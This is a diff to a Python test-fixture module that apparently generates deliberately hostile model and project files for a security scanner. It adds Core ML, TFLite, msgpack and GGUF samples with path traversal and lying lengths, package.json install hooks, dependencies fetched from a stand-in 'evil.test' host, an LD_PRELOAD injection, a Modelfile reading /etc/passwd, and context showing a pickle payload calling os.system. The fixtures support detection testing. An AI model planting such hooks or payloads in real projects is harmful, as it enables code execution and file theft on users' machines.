@@ -29,6 +29,16 @@ HDF5 = {
     "linked-many": "eNrtll1oFFcUx/8z2U02G0q0bR5s+9DQCBLE3Ts3+5EYYlyz47amTTQBm5RQNR9WYyEkaZMQP4igNlVa9EFbGiENoqgIigaX0pQ0TatUS6lpbB8MWBA/ELGUNi9C2pkzO3Nzb6EUKvShvbCcM+d35p67539mdgdTVeYTwWeCWYEA3PV7ZlXkOdfhTHxiMni7JlW1Tkev/uT8RHcFdWhA9kJYJnvbxr7Wzq7z7qar8DiWv/vDLXSEQp6vt8//+DTnTFOak9mqO9Y5E27hP7H2juyOmutStcixLnQswJ9EfSfLud6f6Q9c3bNlu+RvVvTZdTLLaf3zls3NcyM/3zvwaqI+VQW/nWeHW5bM6G4Nt8qBpj03zDorC0cz+mWO6VlRrxa9Vg232ozPiS+FbNOrpz9N1Feb8IfS5wKYtUKLsKl8Rx4eWNWfRfLu98/hGrk5cws4Xsiy3dvpiihOkbv/re3lWOOz3WMdKytQQDvMvtecxGlyLyUmU9hA7vhPT1djiDYzHzRV45xmu53jLzViNSU8Ze58DfkU/YYVtSFMubNzZzajgqr1ry98A1cp4dsVA30ooISi3OJ+FFM0/0TDICZps8GOsSFcpAQ+UXYU/ZQQOLh8GEly13731QgGKGGk8PpxtNG3iH9y4zjC5O7y7T2BNkrY/PLVMzhMtw1tbbmA9+k4Z79YMYpDVC256ZU0Gii6OFL0ObrJfTd4/xL6KKGm5uRlfEnRr8NXLmOGov6z+65gA+37QeVv13CTEl5f1vgD1lDh2uayHxGg6JsJ330so9tu9oz+igI65Pj2z478s6fBrKtLeoOu+YFH9jRpi4A79vBouzQM2OPT8Mvwx2aqKuG9POypXjU9VqcFKrPaedR6sYRau5tDHRu7unpaeBShXjgopqCYQHEFxQUqVVCpjf5f/+qS9bdm5qOe62UkF1OUZEJJpijJSj1khGVkhAViCmICGQoyBOIK4gKVKKhEoIiCIgIpc22IuTaUuTbEXBtKNwzRDUPphiG6wZVucNENrnSDi25wpRtcdIMr3eCiG1zpBhfd4Eo3eMR78mT97Z+xytSUdZPeHl4o3eOeXG9nMmAeMGRgeIDLgHugRAYlHojIIOKBqAyiHojJIOaBuAziHiiVgVCNKaoxoRpTVGNCNaaoxoRqTFGNCdWYohoTqjFFNSZmmCkzzMQMM2WGWewv37Jm6kVZ/9zcjM3JWL/8RyqYfvvhH4k/x54=",
 }
 
+# Made with TensorFlow 2.21's converter: a matrix product; an operation that TFLite has not (Erfinv).
+TFLITE = {
+    "plain": "eNptUjFLQlEU/rSXKT1MSKLBwaGhSdJqTrECQQ1Kos0EJYV8gj2joKGfEE2NDQ5Baz+gubEposE/0drrO/eeJxJd+Xj3fvee75zvHDMAGvvVzTSyyGAVaaTgkovD4R7kLHziJAJ0idcoMAe7uMUW4RBfQRDM636ZKB/Uj/cOjyoH9WZtr1HaLTVK1HWNdlzfhW/7Pa85HHl+r99pXnaGF72Bhxj5CfFBPBEPWofEeMwl31MipbXEkZxqC7dm2JjhYhony536dIzX5+v377PxqTOnfhwTBRRyhXxuA/jUXKKZz20LNV2i7PyTJ2u42x2gWAQeiQkB4pZ4lX1p/BMET8QSD7Vq5TBbHnj07nfaObDNpv+gp7Ba0U8qn1HvbaKrOfutnicRs7FpU7eLRY3VXsVd3a/TW0R9hzOVczDDR5SX+ztrwuS75xu5TqmW3K8SN+RlBpV2hwP1rzGjI9+3P3FRrfeFvPSv1vJro3PLR6dzWzF9gHbCrgWytuS0aoTeHfOz56uZ/CGXMv8D6YudovQjYbUSv3+kXaQ=",
+    "custom": "eNplUT1PAkEQfQurUJxwCcRYUFxBYUUUaS0IYkLCR4IXY4cmnPEKjgRPoom/wtrS0sJfYWVlZUGi/8LO893ugAnO5V12ZmfezNupAPCPuwdleKhgB2W4cBjLQ/MMxixioqqABuFngCys8YgGoYlFkiRaziWiNeiftocnnUF/1Gv7zaOm3ySvY7jzsBzL3EkYjWY3URxOgtE8mF2H0wgbjD8TT8QjcS/5D9LnnLCz/nG6xO4qljMxmtIyr7PSqE3t2/v3VunQ+8yKljRvk6jX6vu1PRgv5d6UOxf/7eMnSRbEF1Gk3+t2hl5rGlFHHIxr4JOZtwQKq+4pZ0HiFdEyJq6kz+QijMzgkuOazo7o0eKBfLY+PftQWaUUdKaqlNQqmXHdT7WeSa9Xvmd65Yq+jPC+MJ7264wDLia+W9YpqQO2jR6IIms5Rm3Lssy+1KDNZ/3bNS4lvR3+i4bL7sczuzTmpTtozy7DaA78AjJ3R10=",
+}
+
+
+def tflite(name: str) -> bytes:
+    return zlib.decompress(base64.b64decode(TFLITE[name]))
+
 
 def _program(shell: str) -> bytes:
     return b"cos\nsystem\n(V" + shell.encode() + b"\ntR."
@@ -362,6 +372,66 @@ def _programs() -> dict[str, bytes]:
     }
 
 
+def coreml(layer: bytes = b"", kind: int = 500) -> bytes:
+    """A Core ML model whose network has this layer, between a description and nothing."""
+    return field(1, 4) + field(2, field(1, b"input")) + field(kind, field(1, field(1, b"dense") + layer))
+
+
+def packed_array(shape: bytes, dtype: bytes, data: bytes) -> bytes:
+    """An array as Flax packs it, in a dictionary of one."""
+    held = b"\x93" + shape + bytes([0xA0 | len(dtype)]) + dtype + b"\xc4" + bytes([len(data)]) + data
+    return b"\x81\xa1w\xc7" + bytes([len(held)]) + b"\x01" + held
+
+
+def _others() -> dict[str, bytes]:
+    """Formats of phones and of Flax: what an app must bring as code, places outside, lengths and types that lie."""
+    plain = tflite("plain")
+    buffer = plain.rindex(struct.pack("<8f", 1, 3, 5, 7, 2, 4, 6, 8))
+    custom = field(500, field(10, b"EvilLayer"))
+    return {
+        "buffer.tflite": plain[: buffer - 4] + struct.pack("<L", 2**31) + plain[buffer:],
+        "layer.mlmodel": coreml(custom),
+        "classifier.mlmodel": coreml(custom, 403),
+        "in-a-pipeline.mlmodel": field(1, 5) + field(202, field(1, coreml(custom))),
+        "in-a-classifier.mlmodel": field(1, 5) + field(200, field(1, field(1, coreml(custom)))),
+        "whole.mlmodel": field(1, 4) + field(555, field(10, b"EvilModel")),
+        "linked.mlmodel": field(1, 4) + field(556, field(1, field(1, b"other"))),
+        "outside.mlmodel": field(1, 7) + field(502, field(2, b"@model_path/weights/../../../x.bin")),
+        "A.mlpackage/Manifest.json": json.dumps({"itemInfoEntries": {"a": {"path": "../../x.mlmodel"}}}).encode(),
+        "objects.msgpack": packed_array(b"\x91\x01", b"object", b"x"),
+        "claims.msgpack": packed_array(b"\x91\xcf" + struct.pack(">Q", 2**60), b"float32", b"abcd"),
+        "deep.msgpack": b"\x91" * 100_000 + b"\xc0",
+        "long.msgpack": b"\xdd\xff\xff\xff\xff",
+        "blob.msgpack": b"\xc6\xff\xff\xff\xff",
+        "extension.msgpack": b"\x81\xa1w\xd4\x63x",
+        "behind.msgpack": packed_array(b"\x91\x01", b"uint8", b"x") + b"more",
+        "named-otherwise.weights": onnx(field(1, field(4, b"PyOp") + field(7, b"ai.onnx.contrib"))),
+        "key.gguf": gguf_tensors(keys=struct.pack("<Q", 2**16) + b"k" * 2**16 + struct.pack("<LB", 0, 1), count=1),
+        "architecture.gguf": gguf_tensors(
+            keys=struct.pack("<Q", 20) + b"general.architecture" + struct.pack("<LL", 4, 1), count=1
+        ),
+    }
+
+
+def _setups() -> dict[str, bytes]:
+    """What installers, builders and shells run of a folder's own files."""
+    hooks = {f"{hook}/package.json": json.dumps({"scripts": {hook: "node x.js"}}).encode()
+             for hook in ("preinstall", "install", "postinstall", "prepare")}  # fmt: skip
+    return hooks | {
+        "source/package.json": b'{"dependencies": {"x": "http://evil.test/x.tgz"}}',
+        "binding.gyp": b'{"targets": [{"target_name": "x", "actions": []}]}',
+        "requires/pyproject.toml": b'[build-system]\nrequires = ["x @ http://evil.test/x.whl"]\n',
+        "requires/setup.cfg": b"[options]\ninstall_requires = x @ git+http://evil.test/x\n",
+        ".env": b"# settings\nexport LD_PRELOAD=/tmp/x.so\n",
+        "node/.env.local": b"NODE_OPTIONS=--require ./x.js\n",
+        "outside/Modelfile": b"FROM /etc/passwd\n",
+        "adapter/Modelfile": b"FROM llama3\nADAPTER ../../x\n",
+        "MANIFEST.json": b'{"model": {"handler": "h.py", "serializedFile": "../../x"}}',
+        "schema.json": b'{"__class__": "system", "__module__": "os", "__loader__": "ReduceNode"}',
+        "model.safetensors.index.json": b'{"weight_map": {"w": ["x"]}}',
+    }
+
+
 SECRETS = {
     "hub token with digits": "hf_AbCdEfGhIj1234KlMnOpQrStUvWxYz5678".ljust(37, "q")[:37],
     "aws secret": "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYzRk8Qw2Lp9Tz",
@@ -446,9 +516,21 @@ def hostile(shell: str) -> dict[str, bytes]:
     parts = {
         "behind": _behind_a_magic(shell), "numpy": _numpy(), "zip": _zips(), "protobuf": _protobufs(), "keras": _keras(),
         "config": _configs(shell), "wrong": _wrong_weights(), "header": _headers(), "program": _programs(),
-        "secret": _secrets(), "template": _templates(shell),
+        "secret": _secrets(), "template": _templates(shell), "other": _others(), "setup": _setups(),
     }  # fmt: skip
     return {f"{part}/{name}": data for part, files in parts.items() for name, data in files.items()}
 
 
-__all__ = ["FOLDERS", "SECRETS", "WEIGHTS", "field", "gguf_tensors", "hostile", "onnx", "onnx_tensor"]
+__all__ = [
+    "FOLDERS",
+    "SECRETS",
+    "WEIGHTS",
+    "coreml",
+    "field",
+    "gguf_tensors",
+    "hostile",
+    "onnx",
+    "onnx_tensor",
+    "packed_array",
+    "tflite",
+]
